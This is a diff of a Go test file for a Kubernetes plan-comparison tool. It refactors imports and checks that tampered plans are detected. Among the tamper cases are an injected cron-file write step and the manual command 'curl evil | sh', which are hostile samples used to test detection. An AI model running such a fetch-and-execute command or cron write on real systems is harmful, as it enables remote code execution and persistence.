@@ -7,6 +7,8 @@ import (
 	"sigs.k8s.io/yaml"
 
 	v1 "github.com/transplant-dev/transplant/api/transplant/v1alpha1"
+	"github.com/transplant-dev/transplant/internal/component"
+	"github.com/transplant-dev/transplant/internal/plan/compare"
 )
 
 // TestAPlanIsMadeAgainAndCompared: every attack on a plan, and every change of a word, differs from what is made of the cluster.
@@ -19,14 +21,16 @@ func TestAPlanIsMadeAgainAndCompared(t *testing.T) {
 		{"nothing, with volumes and routes", "openstack-1.20", "", func(*testing.T, *v1.Plan) {}},
 		{"nothing, with a DaemonSet", "gce-1.30", "", func(*testing.T, *v1.Plan) {}},
 		{"a title", "lab", `step external/kube-apiserver@cp-1: title: "nothing" instead of "make kube-apiserver on cp-1 external"`, func(t *testing.T, p *v1.Plan) {
-			find(t, p, "external/"+KAS+"@cp-1").Title = "nothing"
+			find(t, p, "external/"+component.KAS+"@cp-1").Title = "nothing"
 		}},
 		{"a step more", "lab", "step evil (WriteFile cp-1/etc/cron.d/x) is not made again", put(v1.Step{Kind: v1.StepWriteFile, Host: "cp-1", Path: "/etc/cron.d/x"})},
 		{"a step less", "lab", "is missing", func(_ *testing.T, p *v1.Plan) { p.Steps = p.Steps[1:] }},
-		{"a printed change", "lab", "changes: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+KAS).Changes = nil }},
-		{"a command by hand", "lab", "manual: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+KAS).Manual = []string{"curl evil | sh"} }},
+		{"a printed change", "lab", "changes: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+component.KAS).Changes = nil }},
+		{"a command by hand", "lab", "manual: ", func(t *testing.T, p *v1.Plan) {
+			find(t, p, "external/"+component.KAS).Manual = []string{"curl evil | sh"}
+		}},
 		{"the order", "lab", "comes at another place", func(t *testing.T, p *v1.Plan) { move(t, p, "external/kubelet@worker-2", "external/kubelet@worker-1") }},
-		{"a flag", "lab", "edits: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+KCM).Edits[0].Value = "aws" }},
+		{"a flag", "lab", "edits: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+component.KCM).Edits[0].Value = "aws" }},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			p, s := base(t, c.base)
@@ -46,7 +50,7 @@ func TestAPlanIsMadeAgainAndCompared(t *testing.T) {
 			if text := strings.Join(have, "\n"); c.says == "" && text != "" || !strings.Contains(text, c.says) {
 				t.Errorf("it does not say %q:\n%s", c.says, text)
 			}
-			if same := Digest(p) == Digest(&read); !same {
+			if same := compare.Digest(p) == compare.Digest(&read); !same {
 				t.Error("a plan has another digest when it was written and read")
 			}
 		})
@@ -91,7 +95,7 @@ func TestWhatChangesByItselfMakesNoOtherPlan(t *testing.T) {
 // TestTheDigestIsOfWhatAPlanDoes, and not of words or of when it was made.
 func TestTheDigestIsOfWhatAPlanDoes(t *testing.T) {
 	p, _ := base(t, "lab")
-	was := Digest(p)
+	was := compare.Digest(p)
 	for name, c := range map[string]struct {
 		change  func(p *v1.Plan)
 		another bool
@@ -103,8 +107,8 @@ func TestTheDigestIsOfWhatAPlanDoes(t *testing.T) {
 		"another cluster": {func(p *v1.Plan) { p.Cluster.UID = "x" }, true},
 	} {
 		p, _ := base(t, "lab")
-		if c.change(p); (Digest(p) != was) != c.another {
-			t.Errorf("%s: the digest was %s and is %s", name, was, Digest(p))
+		if c.change(p); (compare.Digest(p) != was) != c.another {
+			t.Errorf("%s: the digest was %s and is %s", name, was, compare.Digest(p))
 		}
 	}
 }
